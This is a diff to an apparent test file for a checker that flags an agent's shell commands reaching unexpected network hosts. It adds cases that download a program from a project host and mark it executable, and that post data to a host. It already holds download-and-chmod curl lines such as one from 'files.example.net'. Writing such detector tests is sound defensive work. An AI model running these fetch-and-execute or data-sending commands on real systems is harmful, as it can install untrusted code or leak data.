@@ -1,7 +1,18 @@
-import type { CallCheckCases } from '../check.ts';
+import type { CallCase, CallCheckCases } from '../check.ts';
+
+const inProject = (cmd: string): CallCase => ({
+  tool: 'shell',
+  arguments: { cmd },
+  context: { project: { packages: new Map(), hosts: new Set(['acme.example']) } },
+});
 
 export const networkUnexpectedHostCases: CallCheckCases = {
   flags: {
+    'a text to a host of the manifests': [inProject("curl -d 'a=1' https://api.acme.example/v1"), 'medium'],
+    'a program from a host of the manifests': [
+      inProject('curl -o tool https://files.acme.example/tool && chmod +x tool'),
+      'high',
+    ],
     'a program whose address nobody quoted': [
       'curl https://files.example.net/x?a=1&b=2 -o tool && chmod +x tool',
       'high',
@@ -40,11 +51,7 @@ export const networkUnexpectedHostCases: CallCheckCases = {
     'a program from a known host': 'curl -Lo kubectl https://dl.k8s.io/v1/kubectl && chmod +x kubectl',
     'a release of a forge': 'curl -Lo t https://github.com/a/t/releases/download/v1/t && chmod +x t',
     'a host that run time names': 'curl "$URL/health"',
-    'the project host': {
-      tool: 'shell',
-      arguments: { cmd: 'curl https://api.acme.example/v1' },
-      context: { project: { packages: new Map(), hosts: new Set(['acme.example']) } },
-    },
+    'the project host': inProject('curl https://api.acme.example/v1'),
     'a host in printed text': 'echo "see https://stranger.example"',
     'documentation by a web tool': {
       tool: 'WebFetch',
